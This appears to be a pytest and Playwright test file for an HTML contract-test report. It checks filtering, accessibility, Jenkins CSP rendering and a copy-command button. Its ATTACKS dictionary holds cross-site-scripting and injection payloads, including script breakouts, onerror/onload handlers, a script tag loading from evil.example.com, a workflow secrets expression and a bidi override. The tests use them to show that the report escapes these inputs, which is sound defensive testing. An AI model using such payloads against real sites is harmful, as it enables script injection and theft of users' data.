"""`report.html`, opened from disk in a real browser."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from oms_mock.contract import endpoints
from oms_mock.contract.client.interaction import Request
from oms_mock.contract.outcome.report import Report, State
from oms_mock.contract.reports import html
from tests.contract.reports.conftest import EVERY_SEVERITY, INFO, SORTS, finding, outcome, report
from tests.outside.browsing import Visit, expect, http_server

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

JENKINS = "sandbox; default-src 'none'; img-src 'self'; style-src 'self'"
"""The Content-Security-Policy of files in Jenkins' archives."""
WIDE, NARROW = {"width": 1280, "height": 900}, {"width": 320, "height": 640}
KNOWN = replace(EVERY_SEVERITY, baselined=frozenset({INFO.id}))
"""Three errors, a warning, and an info that is in the baseline."""
ALL, ERRORS, NEW = 5, 3, 4

ATTACKS = {
    "script": "</script><script>window.pwned = 1</script>",
    "image": '"><img src=x onerror="window.pwned = 1">',
    "drawing": "'><svg onload='window.pwned = 1'>",
    "style": "</style><script src=https://evil.example.com/x.js></script>",
    "workflow": "${{ secrets.TOKEN }}\n::error::x",
    "terminal": "\x1b[31mred",
    "override": "\u202egpj.exe",
    "long": "a.b" * 2000,
}


def attacked(text: str) -> Report:
    """A report that says this everywhere, also where only our own words can stand."""
    bad = finding(
        kind=f"kind{text}",
        rule=f"rule{text}",
        path=f"$.results[*].{text}",
        expected=text,
        got=text,
        example=text,
        unit=text,
        request=Request(endpoints.ORDER_LIST, link=f"/api/v1/oms/orders/?page=2&{text}={text}"),
    )
    return report(
        target=f"https://oms.example.com/{text}",
        findings=(bad, finding(path="$." + "very_long_name." * 60 + "end")),
        unstable=(bad,),
        outcomes=(
            outcome(f"rule{text}", endpoints.ORDER_LIST),
            outcome("status", endpoints.PULL, State.NOT_RUN, 0, reason=text),
        ),
        inconclusive=text,
    )


Open = Callable[..., Visit]


@pytest.fixture(name="open_report")
def fixture_open_report(browser: Browser, tmp_path: Path) -> Iterator[Open]:
    """Write a report, or a page as it is, and open the file."""
    contexts = []

    def open_report(of: Report | str, fragment: str = "", **settings: Any) -> Visit:
        path = tmp_path / "report.html"
        path.write_text(of if isinstance(of, str) else html.text(of), encoding="utf-8")
        contexts.append(browser.new_context(**{"viewport": WIDE, **settings}))
        visit = Visit(contexts[-1].new_page())
        visit.page.goto(path.as_uri() + fragment)
        return visit

    yield open_report
    for context in contexts:
        context.close()


@pytest.fixture(name="page")
def fixture_page(open_report: Open) -> Page:
    """A report with all sorts of findings."""
    return open_report(KNOWN).page


def shown(page: Page) -> list[str]:
    """The severities of the findings that can be seen."""
    return page.locator(".finding:visible .severity").evaluate_all("(all) => all.map((e) => e.firstChild.data.trim())")


# What it asks for


@pytest.mark.parametrize("name", SORTS)
def test_the_report_sends_no_requests_and_logs_no_errors(open_report: Open, name: str) -> None:
    visit = open_report(SORTS[name])
    visit.page.wait_for_load_state("networkidle")
    assert visit.requests == [visit.page.url]
    assert visit.complaints == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_of_a_deployment_is_not_executed(open_report: Open, attack: str) -> None:
    visit = open_report(attacked(ATTACKS[attack]))
    visit.page.wait_for_load_state("networkidle")
    assert visit.page.evaluate("[window.pwned, document.scripts.length, document.images.length]") == [None, 1, 0]
    assert (visit.requests, visit.complaints) == ([visit.page.url], [])


def test_the_content_security_policy_blocks_an_injected_script(open_report: Open) -> None:
    hole = f"<main>{ATTACKS['script']}{ATTACKS['image']}<script src='https://evil.example.com/x.js'></script>"
    visit = open_report(html.text(KNOWN).replace("<main>", hole))
    visit.page.wait_for_load_state("networkidle")
    assert visit.page.evaluate("[window.pwned, document.images.length]") == [None, 1]
    refused = [each for each in visit.complaints if each.startswith("error: policy: ")]
    assert "error: policy: script-src-elem forbids inline" in refused
    assert "error: policy: script-src-elem forbids https://evil.example.com/x.js" in refused


# Filters


def test_all_findings_are_shown_and_counted_initially(page: Page) -> None:
    assert shown(page) == ["error", "error", "error", "warning", "info"]
    expect(page.locator("#shown")).to_have_text("5 of 5 findings shown")


def test_a_severity_can_be_hidden(page: Page) -> None:
    page.get_by_label("error").uncheck()
    assert shown(page) == ["warning", "info"]
    expect(page.locator("#shown")).to_have_text("2 of 5 findings shown")


def test_findings_can_be_filtered_by_endpoint(page: Page) -> None:
    page.get_by_role("combobox", name="Endpoint").select_option(label="GET /api/v1/oms/orders/short/")
    assert page.locator(".finding:visible h3").all_inner_texts() == ["not-refused"]


def test_findings_can_be_filtered_by_rule(page: Page) -> None:
    page.get_by_role("combobox", name="Rule").select_option("schema")
    assert page.locator(".finding:visible h3").all_inner_texts() == ["null-drift", "unknown-field"]


@pytest.mark.parametrize("words", ["LOYALTY points", "loyalty_points", INFO.id, "a number"])
def test_findings_can_be_filtered_by_text(page: Page, words: str) -> None:
    page.get_by_label("Text").fill(words)
    assert "unknown-field" in page.locator(".finding:visible h3").all_inner_texts()
    assert len(shown(page)) < ALL


def test_findings_of_the_baseline_can_be_hidden(page: Page) -> None:
    page.get_by_label("hide baselined").check()
    assert shown(page) == ["error", "error", "error", "warning"]


def test_filters_can_be_reset(page: Page) -> None:
    page.get_by_label("error").uncheck()
    page.get_by_label("Text").fill("nothing has this")
    assert shown(page) == []
    page.get_by_role("button", name="Show all").click()
    assert len(shown(page)) == ALL
    assert "#" not in page.url


def test_the_number_of_shown_findings_is_announced(page: Page) -> None:
    status = page.locator("#shown")
    assert (status.get_attribute("role"), status.get_attribute("aria-live")) == ("status", "polite")


def test_the_url_contains_the_filters(page: Page, open_report: Open) -> None:
    page.get_by_label("warning").uncheck()
    page.get_by_role("combobox", name="Rule").select_option("schema")
    page.get_by_role("combobox", name="Endpoint").select_option(label="GET /api/v1/oms/orders/")
    page.get_by_label("Text").fill("order 6998")
    page.get_by_label("hide baselined").check()
    other = open_report(KNOWN, "#" + page.url.partition("#")[2]).page
    assert shown(other) == shown(page) == ["error"]
    fields = "() => [...new FormData(document.getElementById('filters'))]"
    assert other.evaluate(fields) == page.evaluate(fields)


def test_a_changed_url_fragment_applies_the_filters(page: Page) -> None:
    page.evaluate("location.hash = 'severity=info&rule=schema'")
    expect(page.locator("#shown")).to_have_text("1 of 5 findings shown")
    assert shown(page) == ["info"]


def test_unknown_values_of_filters_are_ignored(open_report: Open) -> None:
    page = open_report(KNOWN, "#rule=gone&endpoint=gone").page
    assert len(shown(page)) == ALL


@pytest.mark.parametrize("fragment", ["#%", "#=", "#%FF=%FF", "#nothing", "#filters"])
def test_an_invalid_fragment_is_ignored(open_report: Open, fragment: str) -> None:
    visit = open_report(KNOWN, fragment)
    assert len(shown(visit.page)) == ALL
    assert visit.complaints == []


def test_a_link_to_a_finding_that_is_filtered_out_shows_it(page: Page) -> None:
    page.get_by_label("error").uncheck()
    page.evaluate(f"location.hash = 'finding-{finding().id}'")
    expect(page.locator(f"#finding-{finding().id}")).to_be_in_viewport()


def test_a_link_with_the_id_alone_leads_to_the_finding(open_report: Open) -> None:
    page = open_report(KNOWN, f"#{INFO.id}").page
    expect(page.locator(f"#finding-{INFO.id}")).to_be_in_viewport()
    assert page.url.endswith(f"#finding-{INFO.id}")


def test_everything_but_the_filters_works_without_scripts(open_report: Open) -> None:
    page = open_report(KNOWN, java_script_enabled=False).page
    expect(page.locator(".finding:visible")).to_have_count(ALL)
    expect(page.locator("#filters")).to_be_hidden()
    expect(page.get_by_role("button")).to_have_count(0)
    page.locator("summary").first.click()
    expect(page.get_by_text("A value is null that must not be null.").first).to_be_visible()


# On Jenkins, whose policy blocks scripts and the style sheet


@pytest.fixture(name="on_jenkins")
def fixture_on_jenkins(browser: Browser) -> Iterator[Page]:
    """The report, as Jenkins sends it."""
    content = html.text(KNOWN).encode()

    class Jenkins(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Security-Policy", JENKINS)
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with http_server(Jenkins) as origin:
        page = browser.new_page(viewport=WIDE)
        page.goto(origin)
        yield page
        page.close()


def test_the_findings_can_be_read_on_jenkins(on_jenkins: Page) -> None:
    expect(on_jenkins.locator(".finding:visible")).to_have_count(ALL)
    expect(on_jenkins.get_by_text("38 of 200 orders (19 %)")).to_be_visible()
    expect(on_jenkins.locator("#filters")).to_be_hidden()


def test_a_share_is_a_thin_bar_on_jenkins(on_jenkins: Page) -> None:
    whole = on_jenkins.locator(".share .of").first.bounding_box()
    part = on_jenkins.locator(".share rect:not(.of)").first.bounding_box()
    assert whole
    assert part
    assert (whole["height"], part["width"] / whole["width"]) == (4, pytest.approx(38 / 200))


def test_a_share_has_another_color_than_the_rest_of_its_bar_on_jenkins(on_jenkins: Page) -> None:
    colors = (
        on_jenkins.locator(".share")
        .first.locator("rect")
        .evaluate_all("(both) => both.map((each) => getComputedStyle(each).fill)")
    )
    assert colors == ["rgb(220, 216, 207)", "rgb(0, 0, 0)"]


# Commands


def test_a_command_is_copied_unchanged(open_report: Open) -> None:
    page = open_report(KNOWN).page
    page.evaluate("() => { navigator.clipboard.writeText = async (text) => { window.copied = text; }; }")
    page.get_by_role("button", name="Copy the command").first.click()
    expect(page.locator("#announcement")).to_have_text("Copied")
    assert page.evaluate("window.copied") == page.locator(".command code").first.text_content()


def test_a_command_is_selected_if_the_clipboard_is_not_available(page: Page) -> None:
    page.evaluate("() => { navigator.clipboard.writeText = async () => { throw new Error('no'); }; }")
    page.get_by_role("button", name="Copy the command").first.click()
    expect(page.locator("#announcement")).to_have_text("Selected")
    assert page.evaluate("getSelection().toString()").startswith("curl ")


# How it looks

AXE = files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8")
RUN_AXE = """
async () => (await axe.run()).violations.map(
  (each) => `${each.id}: ${each.nodes.map((node) => node.html + node.failureSummary).join()}`)
"""


def violations(page: Page) -> list[str]:
    page.evaluate(f"() => {{ {AXE} }}")
    found: list[str] = page.evaluate(RUN_AXE)
    return found


@pytest.mark.parametrize("viewport", [WIDE, NARROW], ids=["wide", "narrow"])
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", ["every severity", "clean", "not run", "time up"])
def test_axe_finds_no_problems(open_report: Open, name: str, scheme: str, viewport: dict[str, int]) -> None:
    page = open_report(SORTS[name], f"#finding-{finding().id}", color_scheme=scheme, viewport=viewport).page
    page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
    assert violations(page) == []


def test_axe_finds_a_planted_problem(open_report: Open) -> None:
    page = open_report(html.text(KNOWN).replace('<html lang="en">', "<html>")).page
    assert [each.partition(":")[0] for each in violations(page)] == ["html-has-lang"]


@pytest.mark.parametrize("text", ["", ATTACKS["long"]], ids=["short", "long"])
def test_a_narrow_window_has_no_horizontal_scrollbar(open_report: Open, text: str) -> None:
    page = open_report(attacked(text), viewport=NARROW).page
    assert page.evaluate("document.documentElement.scrollWidth") == NARROW["width"]


@pytest.mark.parametrize(("scheme", "is_light"), [("light", True), ("dark", False)])
def test_the_report_follows_the_color_scheme(open_report: Open, scheme: str, is_light: bool, tmp_path: Path) -> None:
    page = open_report(KNOWN, color_scheme=scheme).page
    page.screenshot(path=tmp_path / f"{scheme}.png", full_page=True)
    red = page.evaluate("parseInt(getComputedStyle(document.body).backgroundColor.match(/[0-9]+/)[0])")
    assert (red > 200, red < 50) == (is_light, not is_light)


def test_the_first_tab_stop_is_the_skip_link(page: Page) -> None:
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the findings")).to_be_focused()
    expect(page.get_by_role("link", name="Skip to the findings")).to_be_in_viewport()


def test_the_focused_element_has_an_outline(page: Page) -> None:
    page.get_by_label("Text").focus()
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"


def test_all_explanations_are_open_in_print(page: Page) -> None:
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    expect(page.locator("details[open]")).to_have_count(ALL)
    page.evaluate("dispatchEvent(new Event('afterprint'))")
    expect(page.locator("details[open]")).to_have_count(0)
